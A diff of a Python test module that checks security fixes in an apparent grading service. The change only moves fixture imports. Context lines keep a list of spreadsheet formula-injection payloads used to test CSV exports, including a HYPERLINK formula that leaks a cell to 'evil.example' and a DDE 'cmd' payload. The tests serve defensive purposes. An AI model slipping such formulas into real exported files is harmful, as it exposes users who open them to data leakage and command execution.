@@ -1,5 +1,5 @@
 """Smaller holes of issue 11: spreadsheet formulas in CSV, file names in downloads, health details, body sizes.
-Real Postgres and Redis (tests/api/service_fixtures.py)."""
+Real Postgres and Redis (tests/service_fixtures.py)."""
 
 from __future__ import annotations
 
@@ -12,7 +12,8 @@ from sqlalchemy import select
 
 from grader.store.db import session_scope
 from grader.store.models import Enrollment, Submission, User
-from tests.api.service_fixtures import admin_headers, good_source, submit
+from tests.factories import admin_headers, good_source
+from tests.service_fixtures import submit
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\tTAB", "\rCR"]
@@ -65,7 +66,7 @@ def test_a_stored_quote_and_non_ascii_name_downloads(client, world):
 
 
 def test_health_details_are_for_admins_or_by_setting(client, world, service_env):
-    from tests.api.service_fixtures import apply_environment
+    from tests.service_fixtures import apply_environment
 
     public = client.get("/readyz")
     assert public.status_code in (200, 503) and set(public.json()) == {"status"}
